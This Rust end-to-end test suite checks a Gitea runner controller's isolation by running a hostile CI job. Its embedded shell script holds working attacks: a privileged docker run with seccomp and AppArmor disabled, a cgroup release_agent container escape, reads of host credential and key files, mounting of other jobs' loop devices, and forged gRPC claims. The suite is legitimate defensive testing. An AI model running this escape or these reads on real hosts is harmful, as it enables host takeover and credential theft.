//! The trust model, attacked (docs/security.md): real jobs through the real Gitea
//! 1.23.8, the controller, the runner image with the supervisor and the real
//! gitea-runner on a real dockerd. An attacker's job tries, from its steps, everything
//! the table lists — its own capability, another task through the facade with a valid
//! capability and session of it, the runner credential, the capability key, the store,
//! other environments, the host, the controller's HTTP port — in each docker mode, and the
//! suite asserts exactly what the table says. What a mode does not allow must fail; what
//! it allows is shown, not assumed.
//!
//! The attacker knows what an attacker could: the host paths of the controller's files
//! (defaults are public), the victims' assignment ids, and — as if read from a Pod spec
//! or `docker inspect` — a valid capability and session of each victim.

#![allow(clippy::unwrap_used)]

use std::{collections::BTreeMap, time::Duration};

use base64::Engine as _;
use controller::{
    assignment::capability::{CapabilityKey, session_scope},
    store::State,
};
use e2e::{
    docker::host,
    stack::{Controller, Options},
};
use proto::{
    facade::v1::{AssignmentCredential, ClaimRequest, UpdateLogRequest},
    runner::v1::{LogRow, UpdateLogRequest as RunnerLog},
};
use testkit::gitea::{Gitea, GiteaOptions, TaskInfo, strip_log_timestamps};

/// What the stack writes as the capability key (tests/e2e/src/stack.rs).
const KEY: &[u8] = b"e2e-capability-key-0123456789abcdef0123456789";

/// Every attempt, in the order of docs/security.md's table.
const ATTEMPTS: [&str; 10] = [
    "own-capability",
    "other-task-claim",
    "other-task-report",
    "replay-after-end",
    "credential",
    "capability-key",
    "store",
    "other-environments",
    "host",
    "controller-http",
];

/// A gRPC message as curl sends it: the 5-byte frame header, then the protobuf.
fn frame(message: &impl prost::Message) -> String {
    let body = message.encode_to_vec();
    let mut framed = vec![0u8];
    framed.extend(u32::try_from(body.len()).unwrap().to_be_bytes());
    framed.extend(body);
    base64::engine::general_purpose::STANDARD.encode(framed)
}

/// What the attacker was handed.
struct Loot {
    claim_running: String,
    report_running: String,
    replay_ended: String,
    credential: String,
    key: String,
    store: String,
    gateway: String,
    http_port: u16,
    job_dockerd: bool,
    /// A root-only file on the host and what it holds.
    marker: std::path::PathBuf,
    marker_value: String,
}

const STEP: &str = r#"
set +e
verdict() { echo "ATTACK $1: $2 ($3)"; }
facade=/run/gitea-dynamic-runner/facade.sock
grpc() { # PROCEDURE BASE64-FRAME → "http-code grpc-status"
  echo "$2" | base64 -d > /tmp/request.bin
  curl -s -o /dev/null -m 10 --http2-prior-knowledge --unix-socket "$facade" -H 'content-type: application/grpc' -H 'te: trailers' \
    --data-binary @/tmp/request.bin -w '%{http_code} %header{grpc-status}' "http://facade/facade.v1.FacadeService/$1"
}
facade_verdict() { # NAME "http-code grpc-status": 200 with no status in the headers is a success (status in the trailers)
  case "$2" in
    "200 ") verdict "$1" reach "the facade answered OK" ;;
    *) verdict "$1" refused "http and grpc-status: $2" ;;
  esac
}

# Root in the environment, where the job has its own dockerd: a tiny image of the
# environment's own binaries, run with every capability (--privileged is refused: the
# environment's device cgroup cannot hand out every device) and the loop devices.
root=""
as_root() {
  docker run --rm --cap-add ALL --cap-drop SYS_RESOURCE --security-opt seccomp=unconfined --security-opt apparmor=unconfined --device-cgroup-rule 'b 7:* rmw' \
    --pid=host --cgroupns=host -v /:/env -v /dev:/dev tiny:1 "$@"
}
if [ "$JOB_DOCKERD" = true ] && docker info >/dev/null 2>&1; then
  mkdir -p /tmp/tiny && cd /tmp/tiny
  for b in /bin/sh /bin/cat /bin/mkdir /bin/mount /bin/mknod /bin/ls /bin/grep /usr/bin/head /bin/chmod /bin/sleep; do
    [ -e "$b" ] || continue
    mkdir -p ".$(dirname "$b")" && cp -L "$b" ".$b"
    for l in $(ldd "$b" 2>/dev/null | grep -o '/[^ ]*'); do mkdir -p ".$(dirname "$l")" && cp -L "$l" ".$l"; done
  done
  tar -c . | docker import - tiny:1 >/dev/null && root=yes
  cd - >/dev/null
fi

# The host, as its root, through a cgroup v1 release_agent (needs CAP_SYS_ADMIN in the
# host's user namespace and no seccomp/AppArmor, which a job-local dockerd needs too).
upper=$(sed -n 's/^[0-9]* [0-9]* [0-9:]* \/ \/ .*upperdir=\([^,]*\).*/\1/p' /proc/self/mountinfo | head -n1)
cat > /tmp/escape.sh <<'ESCAPE'
upper=$1; target=$2
printf '#!/bin/sh\ncat %s > %s/gdr-loot 2>&1\n' "$target" "$upper" > /env/gdr-payload
chmod +x /env/gdr-payload
for controller in memory pids rdma cpu; do
  mkdir -p /x-$controller
  mount -t cgroup -o $controller cgroup /x-$controller || { echo "[$controller: no mount]"; continue; }
  d=/x-$controller/gdr-escape-$$
  mkdir -p $d && echo 1 > $d/notify_on_release && echo "$upper/gdr-payload" > /x-$controller/release_agent || { echo "[$controller: no release_agent]"; continue; }
  sh -c "echo \$\$ > $d/cgroup.procs" || { echo "[$controller: cannot move]"; continue; }
  sleep 2
  [ -s /env/gdr-loot ] && break
  echo "[$controller: the agent did not run]"
done
cat /env/gdr-loot
ESCAPE
host_read() { # PATH → its content, read as the host's root
  [ -n "$root" ] && [ -n "$upper" ] || return 1
  rm -f /gdr-loot 2>/dev/null
  as_root /bin/sh /env/tmp/escape.sh "$upper" "$1" 2>&1
}
file_verdict() { # NAME PATH NEEDLE
  if grep -qs "$3" "$2"; then verdict "$1" reach "read $2 directly"; return; fi
  out=$(host_read "$2")
  if printf '%s' "$out" | grep -q "$3"; then verdict "$1" reach "read $2 as the host's root through a cgroup release_agent"
  elif [ -n "$root" ]; then verdict "$1" unshown "root in the environment with every capability; the release_agent escape did not complete here: $(printf "%s" "$out" | tr "\n" " " | head -c 200)"
  else verdict "$1" refused "not in the environment; no root to escape with"; fi
}

# 1. Its own capability.
found=""
[ -e /run/gitea-dynamic-runner/capability ] && found="$found file"
grep -aqs 'v1\.gitea-task' /proc/1/environ && found="$found /proc/1/environ"
for p in $(pgrep -f 'supervisor agent'); do grep -aqs 'v1\.gitea-task' /proc/$p/environ && found="$found agent-environ"; done
env | grep -q 'v1\.gitea-task' && found="$found step-environment"
if [ -n "$root" ]; then
  holders=$(as_root /bin/sh -c 'grep -al "v1\.gitea-task" /proc/[0-9]*/environ' 2>/dev/null | head -n1)
  [ -n "$holders" ] && found="$found $holders(as root in the environment)"
fi
if [ -n "$found" ]; then verdict own-capability reach "$found"; else verdict own-capability refused "the file is gone, /proc/1 and the agent are unreadable"; fi

# 2.-4. Another task through this environment's facade socket.
facade_verdict other-task-claim "$(grpc Claim "$CLAIM_RUNNING")"
facade_verdict other-task-report "$(grpc UpdateLog "$REPORT_RUNNING")"
facade_verdict replay-after-end "$(grpc UpdateLog "$REPLAY_ENDED")"

# 5.-7. The controller's files on the host.
file_verdict credential "$CREDENTIAL" '"token"'
file_verdict capability-key "$KEY_FILE" 'e2e-capability-key'
file_verdict store "$STORE" 'gitea-task-'

# 8. Other environments: their loop devices (their dockerd's images and containers).
if [ -n "$root" ]; then
  own=$(sed -n 's/^[0-9]* [0-9]* [0-9:]* [^ ]* \/var\/lib\/docker .* \/dev\/loop\([0-9]*\) .*/\1/p' /proc/self/mountinfo | head -n1)
  cat > /tmp/loops.sh <<'LOOPS'
for d in /sys/block/loop*; do
  n=${d#/sys/block/loop}
  [ -e $d/loop/backing_file ] && [ "$n" != "$1" ] || continue
  mknod /l$n b 7 $n || echo "mknod loop$n failed"; mkdir -p /o$n
  mount /l$n /o$n && ls /o$n | grep -q overlay2 && echo "loop$n"
done
LOOPS
  other=$(as_root /bin/sh /env/tmp/loops.sh "$own" 2>&1 | tr '\n' ' ' | head -c 300)
  case "$other" in
    *loop[0-9]*) verdict other-environments reach "mounted another job's docker storage: $other" ;;
    *) verdict other-environments refused "no other loop device readable (own: loop$own; $other)" ;;
  esac
else
  mine=$(ls /run/gitea-dynamic-runner 2>/dev/null | tr '\n' ' ')
  loops=$(ls /dev/loop* 2>/dev/null | wc -l)
  verdict other-environments refused "its facade directory holds only: $mine; $loops loop devices"
fi

# 9. The host itself: a file only the host's root reads.
marker=$(host_read "$HOST_MARKER" | head -c 200)
if [ "$marker" = "$HOST_MARKER_VALUE" ]; then
  verdict host reach "ran as the host's root: read $HOST_MARKER (mode 0600)"
elif [ -n "$root" ]; then
  verdict host unshown "root in the environment with every capability and no seccomp/AppArmor; the release_agent escape did not complete here"
else
  verdict host refused "uid $(id -u), no-new-privileges: $(grep NoNewPrivs /proc/self/status | tr -s '\t' ' '), no Docker of its own: $(docker info >/dev/null 2>&1 && echo no || echo yes)"
fi

# 10. The controller's HTTP port.
if curl -s -m 3 "http://$GATEWAY:$HTTP_PORT/metrics" | grep -q gdr_; then verdict controller-http reach "$GATEWAY:$HTTP_PORT"; else verdict controller-http refused "nothing answers at $GATEWAY:$HTTP_PORT"; fi
true
"#;

/// The attacker's workflow: the script goes in base64 (Gitea re-serialises each job's
/// YAML, and a long script does not always survive that as a block scalar).
fn attacker(loot: &Loot) -> String {
    format!(
        r#"name: attacker
on: push
jobs:
  attack:
    runs-on: [disposable, container, docker]
    steps:
      - env:
          SCRIPT: "{script}"
          JOB_DOCKERD: "{job_dockerd}"
          CLAIM_RUNNING: "{claim_running}"
          REPORT_RUNNING: "{report_running}"
          REPLAY_ENDED: "{replay_ended}"
          CREDENTIAL: "{credential}"
          KEY_FILE: "{key}"
          STORE: "{store}"
          GATEWAY: "{gateway}"
          HTTP_PORT: "{http_port}"
          HOST_MARKER: "{marker}"
          HOST_MARKER_VALUE: "{marker_value}"
        run: echo "$SCRIPT" | base64 -d > /tmp/attack.sh && bash /tmp/attack.sh
"#,
        script = base64::engine::general_purpose::STANDARD.encode(STEP),
        job_dockerd = loot.job_dockerd,
        claim_running = loot.claim_running,
        report_running = loot.report_running,
        replay_ended = loot.replay_ended,
        credential = loot.credential,
        key = loot.key,
        store = loot.store,
        gateway = loot.gateway,
        http_port = loot.http_port,
        marker = loot.marker.display(),
        marker_value = loot.marker_value,
    )
}

const ENDED: &str = "name: ended\non: push\njobs:\n  ended:\n    runs-on: [disposable, container, docker]\n    steps:\n      - run: echo done\n";
const RUNNING: &str = "name: running\non: push\njobs:\n  running:\n    runs-on: [disposable, container, docker]\n    steps:\n      - run: echo victim running\n      - run: sleep 180\n";

fn done(tasks: &[TaskInfo]) -> bool {
    !tasks.is_empty() && tasks.iter().all(|t| !t.is_open())
}

/// Runs the victims and the attacker in one mode; returns attempt → (verdict, detail).
async fn attack(job_dockerd: bool) -> BTreeMap<String, (String, String)> {
    let _turn = e2e::exclusive().await;
    let docker = host();
    let gitea = Gitea::start(GiteaOptions { bind: docker.bridge_ip.into(), ..GiteaOptions::default() }).await;
    let mut options = Options::new(&gitea.url(), &gitea.runner_registration_token().await, &docker.image("gitea-runner"), &docker.socket);
    options.capacity = 3;
    options.job_dockerd = job_dockerd;
    let http_port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    options.http_listen = format!("127.0.0.1:{http_port}");
    let mut controller = Controller::start(options).await;
    let key = CapabilityKey::from_bytes(KEY).unwrap();
    let far = u64::MAX / 4;

    // A victim that has ended, and one that runs (claimed) while the attacker runs.
    let ended_repo = gitea.create_repo("ended").await;
    gitea.commit_workflow(&ended_repo, "ended.yml", ENDED).await;
    let ended = gitea.wait_for_tasks(&ended_repo, Duration::from_secs(180), done).await[0].id;
    let running_repo = gitea.create_repo("running").await;
    gitea.commit_workflow(&running_repo, "running.yml", RUNNING).await;
    let running = gitea.wait_for_tasks(&running_repo, Duration::from_secs(180), |t| t.iter().any(|t| t.status == "running")).await[0].id;
    gitea.wait_for_log(&running_repo, 1, 0, "victim running").await;
    let running_id = format!("gitea-task-{running}");
    let record = controller.store.get(&running_id).await.unwrap().unwrap().value;
    assert!(matches!(record.state, State::Claimed { .. }), "{record:?}");

    let credential = |id: &str, capability: String| Some(AssignmentCredential { assignment_id: id.to_owned(), capability });
    let report = |id: &str, task: i64, capability: String| {
        frame(&UpdateLogRequest {
            credential: credential(id, capability),
            request: Some(RunnerLog { task_id: task, index: 0, rows: vec![LogRow { time: None, content: "injected by the attacker".into() }], no_more: false }),
        })
    };
    let ended_id = format!("gitea-task-{ended}");
    let state = &controller.state_dir;
    let marker = state.join("host-marker");
    let marker_value = format!("host-only-{}", fastrand::u64(..));
    {
        use std::os::unix::fs::OpenOptionsExt as _;
        let mut file = std::fs::OpenOptions::new().write(true).create_new(true).mode(0o600).open(&marker).unwrap();
        std::io::Write::write_all(&mut file, marker_value.as_bytes()).unwrap();
    }
    let loot = Loot {
        claim_running: frame(&ClaimRequest {
            credential: credential(&running_id, key.issue(&running_id, far)),
            holder: "attacker-holder-0123456789abcdef".into(),
        }),
        report_running: report(&running_id, running, key.issue(&session_scope(&running_id), far)),
        replay_ended: report(&ended_id, ended, key.issue(&session_scope(&ended_id), far)),
        credential: state.join("runners/container.docker.json").display().to_string(),
        key: state.join("capability.key").display().to_string(),
        store: state.join("store.redb").display().to_string(),
        gateway: docker.bridge_ip.to_string(),
        http_port,
        job_dockerd,
        marker,
        marker_value,
    };
    let attacker_repo = gitea.create_repo("attacker").await;
    gitea.commit_workflow(&attacker_repo, "attacker.yml", &attacker(&loot)).await;
    let tasks = gitea.wait_for_tasks(&attacker_repo, Duration::from_secs(300), done).await;
    let log = strip_log_timestamps(&gitea.job_log(&attacker_repo, tasks[0].run_number, 0).await);
    assert_eq!(tasks[0].status, "success", "{log}");
    let verdicts: BTreeMap<String, (String, String)> = log
        .lines()
        .filter_map(|l| l.trim().strip_prefix("ATTACK "))
        .filter_map(|l| {
            let (name, rest) = l.split_once(": ")?;
            let (verdict, detail) = rest.split_once(' ')?;
            Some((name.to_owned(), (verdict.to_owned(), detail.trim_matches(|c| c == '(' || c == ')').to_owned())))
        })
        .collect();
    assert_eq!(verdicts.keys().collect::<Vec<_>>().len(), ATTEMPTS.len(), "every attempt reports:\n{log}");
    // Nothing the attacker sent reached the victim's log.
    let victim_log = strip_log_timestamps(&gitea.job_log(&running_repo, 1, 0).await);
    assert!(!victim_log.contains("injected by the attacker"), "{victim_log}");
    gitea.cancel_run(&running_repo, 1).await;
    controller.wait_until_all_terminal(Duration::from_secs(60)).await;
    controller.stop().await;
    verdicts
}

fn table(mode: &str, verdicts: &BTreeMap<String, (String, String)>) -> String {
    let mut t = format!("\nattack suite, {mode}:\n| attempt from a step | verdict | detail |\n|---|---|---|\n");
    for name in ATTEMPTS {
        let (verdict, detail) = verdicts.get(name).cloned().unwrap_or_else(|| ("missing".into(), String::new()));
        t.push_str(&format!("| {name} | {verdict} | {detail} |\n"));
    }
    t
}

/// Asserts each attempt's verdict: `reach` for those listed, `refused` for the rest;
/// an attempt in `escapes` needs the host's root from root in the environment, and is
/// `reach`, or `unshown` where this machine's kernel did not run the escape's helper.
fn expect(mode: &str, verdicts: &BTreeMap<String, (String, String)>, reach: &[&str], escapes: &[&str]) {
    let table = table(mode, verdicts);
    println!("{table}");
    for name in ATTEMPTS {
        let got = verdicts.get(name).map_or("missing", |(v, _)| v.as_str());
        if escapes.contains(&name) {
            assert!(matches!(got, "reach" | "unshown"), "{mode}: {name} is {got}{table}");
        } else {
            let want = if reach.contains(&name) { "reach" } else { "refused" };
            assert_eq!(got, want, "{mode}: {name}{table}");
        }
    }
}

/// The default docker mode (unprivileged, no job-local dockerd): a job reaches its own
/// task and nothing else.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_default_docker_mode_holds_against_a_hostile_job() {
    let verdicts = attack(false).await;
    expect("docker (default)", &verdicts, &[], &[]);
}

/// With a job-local dockerd, a job step is root on the host: the table says so, and
/// this shows it. The facade's bindings still hold (another task stays refused).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_local_dockerd_gives_a_hostile_job_the_host() {
    let verdicts = attack(true).await;
    expect("docker, job_dockerd = true", &verdicts, &["own-capability", "other-environments"], &["credential", "capability-key", "store", "host"]);
}
